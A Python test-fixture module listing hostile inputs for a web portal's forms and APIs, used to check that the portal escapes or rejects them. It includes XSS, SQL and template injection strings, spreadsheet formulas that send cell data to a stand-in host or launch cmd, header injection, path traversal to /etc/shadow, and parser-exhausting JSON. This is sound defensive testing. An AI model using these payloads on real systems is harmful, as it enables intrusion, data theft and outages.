"""Hostile inputs for the forms, the API and the uploads: what a careless spreadsheet, a confused
keyboard or an attacker sends. Each string is typed as a user could type it (or a script could post
it); the tests assert the portal refuses or stores it harmlessly, never a 5xx, never a raw script in
a page, never a half-written change, never a formula in an export."""

from __future__ import annotations

from itertools import cycle, islice

# Markup whose raw (unescaped) form must never appear in a page: the tests look for these markers.
SCRIPT = "<script>alert('mq-xss')</script>"
IMG = '"><img src=x onerror=alert(1)>'
SVG = "'><svg/onload=alert(1)>"
JS_URL = "javascript:alert(1)"
RAW_MARKERS = ("<script>alert('mq-xss')", "<img src=x onerror", "<svg/onload", 'href="javascript:')

HTML = (SCRIPT, IMG, SVG, JS_URL, "</textarea></title><b>bold</b>", "&lt;script&gt;&amp;")
TEMPLATE = ("{{ 7*7 }}", "{% debug %}", "{{ request.user.password }}", "${7*7}", "#{7*7}", "%s%n%x")
SQL = (
    "' OR '1'='1",
    "1; DROP TABLE residents_resident;--",
    "2100000005' --",
    '" OR ""="',
    "1 UNION SELECT username, password FROM accounts_user--",
    "%' AND 1=0 UNION SELECT NULL--",
)
# Spreadsheet formula injection (OWASP "CSV injection"), including the tab/CR forms.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"!A0")',
)
BIDI = (
    "\u202egnp.exe",  # RIGHT-TO-LEFT OVERRIDE: shows as "exe.png"
    "محمد\u202dAhmed\u202c",
    "\u2066\u2067\u2068isolates\u2069",
    "\u200f\u200e\u061c marks",
    "2100000005\u202e",
)
ZERO_WIDTH = ("2100\u200b000005", "\ufeff2100000005", "2100000005\u200d", "\u2060\u200c")
# Digits in the Arabic-Indic (٠-٩) and Persian (۰-۹) blocks, alone and mixed with Latin ones.
DIGITS = (
    "٢١٠٠٠٠٠٠٠٥",
    "۲۱۰۰۰۰۰۰۰۵",
    "٢1٠0۰0٠0٠5",
    "١٢",
    "۱۲",
    "٣٠٠١٠٠٠٠٠٠",
    "١٬٠٠٠٫٥٠",
    "²³",  # digits to str.isdigit(), not to int()
    "①②",
    "9" * 5000,  # beyond int()'s 4,300-digit limit
)
NUMBERS = (
    "-1",
    "0",
    "-0",
    "99999999999999999999999999999999",
    "1e308",
    "1e-308",
    "NaN",
    "Infinity",
    "-Infinity",
    "0x10",
    "1_000",
    "12.",
    ".5",
    "1,5",
    " 12 ",
    "2147483648",
    "-9223372036854775809",
)
DATES = (
    "1447-13-30",
    "1447-12-31",
    "2026-02-30",
    "2026-02-29",
    "0000-00-00",
    "9999-12-31",
    "0001-01-01",
    "30/02/2026",
    "٢٠٢٦-٠٢-٠١",
    "2026-1-1T25:61:61",
    "yesterday",
)
CONTROL = (
    "nul\x00byte",
    "\x00",
    "bell\x07vt\x0bff\x0c",
    "\x1b[31mred\x1b[0m",
    "\x7f\x85\u2028\u2029",
)
# Lone surrogates cannot be encoded as UTF-8; posted through the test client they reach the view as
# what a browser would send for them, and through JSON as "\ud800" escapes.
SURROGATES = ("\ud800", "a\udfffb")
CRLF = ("value\r\nSet-Cookie: mq=1", "line\nLocation: http://evil.example/", "\r\n\r\n<html>")
TRAVERSAL = ("../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "%2e%2e%2f")
UNICODE = (
    "محمد أحمد",
    "Ｆｕｌｌｗｉｄｔｈ",
    "e\u0301\u0301\u0301\u0301 combining",
    "𝕸𝖚𝖖𝖊𝖊𝖒 🇸🇦👨‍👩‍👧",
    "ﷺ ﷽",
    " ",
    "",
)
OVERSIZED = ("x" * 10_000, "٩" * 10_000, "A" * 1_000_000)

CORPUS: tuple[str, ...] = (
    *HTML,
    *TEMPLATE,
    *SQL,
    *FORMULAS,
    *BIDI,
    *ZERO_WIDTH,
    *DIGITS,
    *NUMBERS,
    *DATES,
    *CONTROL,
    *CRLF,
    *TRAVERSAL,
    *UNICODE,
    *OVERSIZED,
)


def for_field(index: int, count: int) -> list[str]:
    """`count` corpus strings for the `index`-th field of a sweep: the script marker always (so
    every field is checked for escaping), then a window that moves along the corpus field by field,
    so that a sweep over enough fields sends every string somewhere."""
    stride = max(count - 1, 1)
    start = (index * stride) % len(CORPUS)
    window = list(islice(cycle(CORPUS), start, start + count - 1))
    return [SCRIPT, *window]


def raw_markup_in(body: str) -> list[str]:
    """The hostile markers a page shows unescaped (empty when everything was escaped)."""
    return [marker for marker in RAW_MARKERS if marker in body]


# --- JSON bodies for the APIs -----------------------------------------------------------------------

# Values of the wrong JSON type, or of the right type but absurd; each replaces one field in turn.
JSON_VALUES: tuple[object, ...] = (
    None,
    True,
    0,
    -1,
    10**40,
    -(10**40),
    1.5,
    1e308,
    [],
    ["2100000005"],
    {},
    {"$gt": ""},
    "",
    SCRIPT,
    "x" * 100_000,
    "٢١٠٠٠٠٠٠٠٥",
    "2026-02-30",
    "1447-13-30",
    "\u202e2100000005",
    "nul\x00byte",
    "\ud800",
    FORMULAS[0],
    SQL[0],
)
# Raw bodies that are not a JSON object at all.
RAW_BODIES: tuple[bytes, ...] = (
    b"",
    b"null",
    b"[]",
    b'"just a string"',
    b"12",
    b"{",
    b'{"a": NaN, "b": Infinity}',
    b"\xff\xfe\x00{",
    b'{"a": "\xc3\x28"}',
    b'{"a": "\\ud800"}',
    b"[" * 100_000 + b"]" * 100_000,
    b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    b'{"a": "' + b"x" * 2_000_000 + b'"}',
)
